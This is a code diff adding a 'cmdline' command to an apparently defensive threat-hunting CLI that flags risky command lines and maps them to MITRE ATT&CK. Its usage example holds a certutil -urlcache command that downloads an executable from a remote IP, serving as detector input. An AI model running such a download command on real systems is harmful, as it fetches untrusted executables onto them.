@@ -265,6 +265,43 @@ def decode(
 
 
 @_command(
+    "cmdline",
+    "huntkit cmdline evidence/ --lowest high",
+    "huntkit cmdline --text 'certutil -urlcache -f http://198.51.100.9/a a.exe'",
+    "Look for risky command lines of Windows, Linux and macOS, however they are spelt or encoded,"
+    " with the technique of MITRE ATT&CK and why it matters. - reads lines from stdin.",
+)
+def cmdline(
+    reading: Reading,
+    writing: Writing,
+    paths: Annotated[
+        list[str] | None,
+        typer.Argument(
+            metavar="PATHS",
+            help="Files, folders, globs or archives; - reads lines from stdin.",
+            show_default=False,
+        ),
+    ] = None,
+    text: Annotated[
+        list[str] | None, typer.Option("--text", metavar="TEXT", help="Look at this line.")
+    ] = None,
+    lowest: Annotated[
+        str,
+        typer.Option(metavar="LEVEL", help="Leave out what is below: low, medium, high, critical."),
+    ] = "low",
+    rules: Annotated[
+        list[Path] | None,
+        typer.Option(metavar="FILE", help="Your own rules, instead of the built-in ones."),
+    ] = None,
+    general: General = General(),  # noqa: B008
+) -> None:
+    """Risky command lines, with the reason."""
+    _work("commandline", general).cmdline(
+        paths or [], text or [], reading, writing, general, lowest=lowest, rules=rules or []
+    )
+
+
+@_command(
     "tree",
     "huntkit tree evidence/ --host ws01.example",
     "huntkit tree evidence/ -o tree.html",
